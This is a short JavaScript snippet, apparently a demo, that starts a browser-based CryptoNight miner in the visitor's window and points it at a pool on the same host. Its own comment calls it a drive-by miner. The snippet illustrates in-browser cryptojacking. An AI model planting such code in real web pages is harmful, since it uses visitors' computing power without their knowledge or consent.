// Mines in the window itself, the simplest drive-by miner there is.
demoMiner.startCryptoNight({
  poolUrl: `ws://${location.host}/pool`,
  report: (message) => demoPage.take(window, message),
});
